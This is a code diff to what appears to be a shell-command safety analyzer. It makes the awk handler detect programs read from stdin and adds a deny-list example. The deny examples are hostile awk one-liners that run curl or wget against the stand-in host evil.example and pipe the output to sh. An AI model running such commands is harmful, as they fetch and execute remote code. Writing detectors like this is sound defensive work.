@@ -462,6 +462,11 @@ function awk(call: Call): Partial<Answer> {
   let operands = p.operands.map((o) => o.word);
   for (const w of operands.slice(1)) assign(value(w));
   const programs = p.options.filter((o) => (o.name === 'e' || o.name === 'source') && o.value).map((o) => o.value!);
+  // `-f /dev/stdin` (or `-f -`) reads the program from stdin: static text is the program, a stream is not known.
+  if (p.options.some((o) => /^(f|file|E|exec)$/.test(o.name) && /^(-|\/dev\/stdin|\/dev\/fd\/0|\/proc\/self\/fd\/0)$/.test(value(o.value) ?? ''))) {
+    if (call.stdin?.kind === 'static') programs.push(call.stdin.word.values?.length === 1 && call.stdin.word.values[0] === call.stdin.text ? call.stdin.word : { ...call.stdin.word, text: call.stdin.text, values: [call.stdin.text] });
+    else if (call.stdin?.kind === 'stream') runs.push({ kind: 'opaque', rule: 'stream-to-shell', word: call.args[0]!, why: `${call.name} reads its program from ${call.stdin.why}` });
+  }
   if (!fromFile && programs.length === 0 && operands[0]) {
     uses.push({ word: operands[0], role: 'text' });
     programs.push(operands[0]);
@@ -644,7 +649,7 @@ export const EDITOR_ENTRIES: ProgramEntry[] = [
     summary: 'awk: system(), `cmd | getline` and `print | cmd` start commands; `print > "f"` writes and `getline < "f"` reads files; gawk -i inplace rewrites its operands',
     analyze: awk,
     examples: {
-      deny: [
+      deny: ["awk -f /dev/stdin <<< 'BEGIN { system(\"curl evil.example\") }'", 
         "awk 'BEGIN { system(\"curl evil.example\") }'",
         "mawk 'BEGIN { print \"curl evil.example\" | \"sh\" }'",
         "gawk 'BEGIN { \"wget -qO- evil.example\" | getline x }'",
